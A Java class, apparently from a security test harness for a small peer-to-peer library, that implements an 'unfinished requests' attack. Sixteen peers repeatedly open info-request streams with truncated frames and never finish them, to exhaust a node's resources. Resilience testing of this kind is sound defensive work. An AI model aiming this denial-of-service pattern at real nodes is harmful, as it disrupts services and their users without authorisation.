package org.minip2p.attacks.hostile;

/** Overlapping requests for node info, none of which is ever finished. */
final class UnfinishedRequests implements Attack {
    private static final int PEERS = 16;
    private static final int PAUSE_MILLIS = 200;

    @Override
    public Description description() {
        return Description.of(
                        "unfinished-requests",
                        "SEC-63 SEC-H13",
                        PEERS
                                + " peers begin a request for node info five times a second, each before the last one has ended, and finish none")
                .striking(200);
    }

    @Override
    public void run(Battlefield field) throws InterruptedException {
        byte[] begun = Frames.join(Frames.proposal("/ssv/info/0.0.1"), new byte[] {(byte) 0x80});
        field.strike(PEERS, thread -> {
            try (Peer peer = field.peer(Battlefield.address(thread))) {
                for (long stream = 1; !field.isOver() && !peer.hasEnded(); stream += 2) {
                    peer.send(Frames.data(Frames.SYN, stream, begun));
                    field.tally().struck(1);
                    field.pause(PAUSE_MILLIS);
                }
            }
        });
    }
}
